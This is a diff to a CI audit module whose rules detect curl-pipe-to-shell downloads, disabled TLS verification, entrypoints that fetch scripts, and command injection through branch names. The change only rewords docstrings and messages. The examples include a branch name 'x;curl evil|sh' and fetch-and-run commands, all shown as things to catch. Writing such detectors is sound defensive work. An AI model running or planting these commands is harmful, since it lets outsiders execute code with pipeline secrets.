@@ -28,14 +28,14 @@ from airflow_provider.audit.settings.model import AuditSettings
 )
 def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
     """
-    A script is fetched and run at once, by whatever way: a pipe, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, ``iex (irm ...)``. Of
-    severity and confidence medium: it is saved first, and run without a look at a checksum or signature.
+    A script is downloaded and run at once: by a pipe, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, ``iex (irm ...)``. Severity and
+    confidence are medium if it is saved first and run without checking a checksum or signature.
 
     Why:
-    Whoever has that server, or its name, runs commands in the pipeline, with all its secrets; nobody can tell afterwards what ran.
+    Whoever controls that server or its domain name can run commands in the pipeline, with all its secrets. Nobody can tell later what ran.
 
-    Mend:
-    Keep the script in the repository, or fetch a fixed version and compare its checksum before it runs.
+    Fix:
+    Keep the script in the repository, or download a fixed version and verify its checksum before running it.
 
     Before:
     {"execute_commands": ["curl -sSL https://get.example.com/tool.sh | bash"]}
@@ -47,7 +47,7 @@ def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterato
         yield not_available("the commands are not visible")
         return
     if any(script.cut for script in action.scripts()):
-        yield not_available("the commands are too long to be looked at whole")
+        yield not_available("the commands are too long to be checked completely")
     downloads = Downloads()
     for commands in action.scripts():
         found: dict[int, Run] = {}
@@ -60,7 +60,7 @@ def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterato
             yield fail(
                 commands.path_at(line),
                 run.shown,
-                "A download is run without a look at its checksum." if run.saved else "A download is run unseen.",
+                "A download is run without checking its checksum." if run.saved else "A download is run directly.",
                 severity=Severity.MEDIUM if run.saved else None,
                 confidence=None if run.sure else Confidence.MEDIUM,
             )
@@ -68,7 +68,7 @@ def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterato
 
 @rule(
     "BDY011",
-    "TLS checks switched off",
+    "TLS verification disabled",
     on=ActionFacts,
     systems=("buddy",),
     severity=Severity.HIGH,
@@ -78,14 +78,14 @@ def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterato
 )
 def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
     """
-    A command, or a variable that programs heed, switches off the check of certificates: ``curl -k``, ``git -c http.sslVerify=false``,
-    ``NODE_TLS_REJECT_UNAUTHORIZED=0``. Of confidence low where only the machine itself is spoken to.
+    A command or an environment variable disables certificate verification: ``curl -k``, ``git -c http.sslVerify=false``,
+    ``NODE_TLS_REJECT_UNAUTHORIZED=0``. Confidence is low if the connection is to localhost only.
 
     Why:
-    Whoever is on the way can answer in place of the server: with other code, or just to read the password.
+    Anyone on the network path can impersonate the server, send other code, or read the password.
 
-    Mend:
-    Trust the authority that signed the certificate: ``--cacert``, ``GIT_SSL_CAINFO``, ``NODE_EXTRA_CA_CERTS``, ``PIP_CERT``.
+    Fix:
+    Trust the certificate authority that signed the certificate: ``--cacert``, ``GIT_SSL_CAINFO``, ``NODE_EXTRA_CA_CERTS``, ``PIP_CERT``.
 
     Before:
     {"execute_commands": ["curl -k https://registry.example.com/v2/"]}
@@ -97,7 +97,7 @@ def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Out
         yield not_available("the commands are not visible")
         return
     if any(script.cut for script in action.scripts()):
-        yield not_available("the commands are too long to be looked at whole")
+        yield not_available("the commands are too long to be checked completely")
     seen: set[tuple[str, str]] = set()
     for commands in action.scripts():
         found = [(path, what, sure) for path, command in commands.every_command() for what, sure in by_command(command)]
@@ -105,15 +105,15 @@ def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Out
         for path, what, sure in found:
             if (path, what) not in seen:
                 seen.add((path, what))
-                yield fail(path, what, f"Certificates are not checked: {what}.", confidence=sure)
+                yield fail(path, what, f"Certificates are not verified: {what}.", confidence=sure)
     for number, variable in enumerate(action.variables):
         if variable.value is not None and (confidence := by_variable(variable.key, str(variable.value))):
-            yield fail(f"variables[{number}].value", variable.key, f"Certificates are not checked: {variable.key}.", confidence=confidence)
+            yield fail(f"variables[{number}].value", variable.key, f"Certificates are not verified: {variable.key}.", confidence=confidence)
 
 
 @rule(
     "BDY021",
-    "Entrypoint tampered with",
+    "Entrypoint downloads something",
     on=ActionFacts,
     systems=("buddy",),
     severity=Severity.LOW,
@@ -123,14 +123,14 @@ def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Out
 )
 def entrypoint_fetches(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
     """
-    The entrypoint that takes the place of the image's own fetches something. Whether an image needs the entrypoint that is reset is not
-    known here, so ``reset_entrypoint`` is not judged.
+    The entrypoint that replaces the image's own downloads something. ``reset_entrypoint`` is not checked, since the audit does not know
+    whether the image needs its entrypoint.
 
     Why:
-    What starts the container is the last place where anybody looks for code from elsewhere.
+    Nobody looks for downloaded code in the command that starts a container.
 
-    Mend:
-    Build it into the image, or fetch it by a command of the action, where it is seen.
+    Fix:
+    Build it into the image, or download it in a command of the action, where it is visible.
 
     Before:
     {"entrypoint": "sh -c 'curl -so /start.sh https://example.com/start.sh; sh /start.sh'"}
@@ -145,7 +145,7 @@ def entrypoint_fetches(action: ActionFacts, settings: AuditSettings) -> Iterator
         if commands.path == "entrypoint":
             name = next((command.name for _, command in commands.every_command() if _fetches(command)), None)
             if name:
-                yield fail("entrypoint", name, f"The entrypoint fetches something by {name}.")
+                yield fail("entrypoint", name, f"The entrypoint downloads something with {name}.")
 
 
 def _fetches(command: Command) -> bool:
@@ -168,14 +168,14 @@ def _fetches(command: Command) -> bool:
 )
 def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
     """
-    A variable that whoever pushes or starts the pipeline fills, such as the branch or the commit message, is used without quotes, or within
-    a script that is given as text.
+    A variable that is set by the person who pushes or starts the pipeline, such as the branch or the commit message, is used without quotes
+    or inside a script that is passed as text.
 
     Why:
-    A branch may be named ``x;curl evil|sh``, or like an option. Within ``eval`` and ``sh -c`` not even quotes help.
+    A branch may be named ``x;curl evil|sh``, or like an option. In ``eval`` and ``sh -c`` even quotes do not help.
 
-    Mend:
-    Put it in double quotes, behind ``--`` where it could be an option, and hand it to scripts as an argument.
+    Fix:
+    Put it in double quotes, after ``--`` if it could be taken for an option, and pass it to scripts as an argument.
 
     Before:
     {"execute_commands": ["git checkout $BUDDY_EXECUTION_BRANCH"]}
